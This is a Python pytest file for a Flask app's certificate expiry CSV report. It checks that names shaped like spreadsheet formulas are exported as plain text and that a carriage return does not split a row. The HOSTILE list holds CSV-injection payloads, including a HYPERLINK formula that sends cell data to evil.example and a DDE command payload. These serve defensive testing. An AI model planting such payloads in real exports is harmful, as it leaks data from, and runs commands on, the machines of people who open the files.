"""`flask expiry-report --format csv` writes names as text, never as formulas (issue 23, finding 3)."""
from __future__ import annotations

import csv
import io

import pytest

from app.extensions import db
from app.store import save_step
from tests.scale.test_expiry import expiring_in
from tests.staff.conftest import make_case, users  # noqa: F401  the fixture

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\tTAB=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_an_organization_or_certificate_named_like_a_formula_is_written_as_text(app, name):
    with app.app_context():
        case = make_case(name, ["contoso.com"], pem=expiring_in(10))
        save_step(case, "certificate", {"source": "text", "thumbprint": "", "common_name": name})
        db.session.commit()
    output = app.test_cli_runner().invoke(args=["expiry-report", "--days", "60"]).output
    table = list(csv.DictReader(io.StringIO(output, newline="")))
    assert len(table) == 1  # a carriage return does not start a row of its own
    row = table[0]
    for column in ("organization", "certificate"):
        assert row[column] == "'" + name.replace("\r", " "), (column, row[column])
    assert row["days_left"] in ("9", "10")  # numbers stay numbers


def test_plain_names_are_left_alone(app):
    with app.app_context():
        make_case("Contoso Ltd", ["contoso.com"], pem=expiring_in(10))
        db.session.commit()
    row = next(csv.DictReader(io.StringIO(app.test_cli_runner().invoke(args=["expiry-report"]).output)))
    assert row["organization"] == "Contoso Ltd"
